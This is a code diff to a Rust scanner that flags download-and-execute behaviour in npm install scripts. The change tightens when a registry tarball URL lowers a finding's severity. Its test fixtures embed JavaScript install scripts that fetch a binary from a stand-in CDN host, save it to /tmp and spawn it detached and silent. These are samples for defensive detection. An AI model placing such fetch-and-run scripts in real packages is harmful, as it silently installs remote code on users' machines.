@@ -2,7 +2,7 @@
 
 use super::{chain, describe, finding, flow_finding, flows, locality, one_per_sink, per_signal};
 use crate::CodeFinding;
-use crate::flow::{SinkKind, SourceKind, flags};
+use crate::flow::{FlowPath, SinkKind, SourceKind, flags};
 use crate::signal::{Kind, PackageFacts};
 use crate::verdict::Locality;
 use diligence_finding::Severity;
@@ -90,7 +90,7 @@ fn runs_inline_code(command: &str) -> bool {
 
 /// Whether a path's data is unscrambled between the network and the sink: steps that undo an
 /// obfuscation (not parsing, concatenation or URL decoding, which loaders do).
-fn unscrambled(path: &crate::flow::FlowPath) -> bool {
+fn unscrambled(path: &FlowPath) -> bool {
     path.steps
         .iter()
         .any(|s| super::decode_exec::UNSCRAMBLING.contains(&s.what.as_str()))
@@ -176,14 +176,20 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
         };
         let hidden = run.flags & (flags::DETACHED | flags::SILENT) != 0;
         // A prebuilt binary fetched from the npm registry itself (esbuild's fallback when its
-        // platform package is missing) has the same trust as the package's own files: the file
-        // builds a registry tarball URL in code (`https://registry.npmjs.org/${pkg}/-/…`); the
-        // registry named in a comment or beside other hosts' URLs lowers nothing. The file's
-        // text is searched only when the download is not verified already.
+        // platform package is missing) has the same trust as the package's own files. When the
+        // download's URL is known, it decides: a registry tarball URL is trusted, any other
+        // host is not, whatever registry URL the file spells elsewhere. When it is built at
+        // run time (`https://registry.npmjs.org/${pkg}/-/…` through a helper's parameter), the
+        // file must build a registry tarball URL in code; one in a comment lowers nothing. The
+        // file's text is searched only when the download is not verified already.
         let trusted = verified
-            || p.file(&path.from.file)
-                .and_then(|f| f.text.as_deref())
-                .is_some_and(builds_registry_tarball_url);
+            || match download_url(path) {
+                Some(url) => is_registry_tarball_url(url),
+                None => p
+                    .file(&path.from.file)
+                    .and_then(|f| f.text.as_deref())
+                    .is_some_and(builds_registry_tarball_url),
+            };
         let sev = match (trusted, hidden) {
             (true, _) => Severity::Low,
             (false, true) => Severity::Critical,
@@ -294,6 +300,26 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
     all
 }
 
+/// The registry's tarball URL prefix.
+const REGISTRY: &str = "https://registry.npmjs.org/";
+
+/// The download's URL when the analysis knew it at build time: the source of a network
+/// response is described as `response of <client> from <url>`.
+fn download_url(path: &FlowPath) -> Option<&str> {
+    path.from
+        .what
+        .strip_prefix("response of ")
+        .and_then(|w| w.split_once(" from ").map(|(_, url)| url))
+        .filter(|url| url.contains("://"))
+}
+
+/// True when `url` is on `registry.npmjs.org` with the registry's tarball path shape
+/// (`/<name>/-/<file>`).
+fn is_registry_tarball_url(url: &str) -> bool {
+    url.strip_prefix(REGISTRY)
+        .is_some_and(|rest| rest.contains("/-/"))
+}
+
 /// True when a code line of `text` (not a comment) holds a URL on `registry.npmjs.org` with the
 /// registry's tarball path shape (`/<name>/-/<file>`).
 fn builds_registry_tarball_url(text: &str) -> bool {
@@ -301,8 +327,8 @@ fn builds_registry_tarball_url(text: &str) -> bool {
         .map(str::trim_start)
         .filter(|l| !l.starts_with("//") && !l.starts_with('*') && !l.starts_with("/*"))
         .any(|l| {
-            l.match_indices("https://registry.npmjs.org/")
-                .any(|(at, m)| l[at + m.len()..].contains("/-/"))
+            l.match_indices(REGISTRY)
+                .any(|(at, _)| is_registry_tarball_url(&l[at..]))
         })
 }
 
@@ -648,6 +674,23 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
             (
                 "install.js",
                 "// mirrors https://registry.npmjs.org/agent/-/agent-1.0.0.tgz for offline installs\nconst https = require('https');\nconst fs = require('fs');\nconst cp = require('child_process');\nhttps.get('https://cdn.example.net/agent', (res) => {\n  const out = fs.createWriteStream('/tmp/agent');\n  res.pipe(out);\n  out.on('finish', () => cp.spawn('/tmp/agent', [], { detached: true, stdio: 'ignore' }).unref());\n});\n",
+            ),
+        ]);
+        assert_eq!(
+            severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// A registry tarball URL spelled in code beside a download from another, known host
+    /// lowers nothing: the download's own URL decides.
+    #[test]
+    fn positive_registry_url_in_code_beside_another_hosts_download() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "install.js",
+                "const MIRROR = 'https://registry.npmjs.org/agent/-/agent-1.0.0.tgz';\nconst https = require('https');\nconst fs = require('fs');\nconst cp = require('child_process');\nhttps.get('https://cdn.example.net/agent', (res) => {\n  const out = fs.createWriteStream('/tmp/agent');\n  res.pipe(out);\n  out.on('finish', () => cp.spawn('/tmp/agent', [], { detached: true, stdio: 'ignore' }).unref());\n});\nmodule.exports = MIRROR;\n",
             ),
         ]);
         assert_eq!(
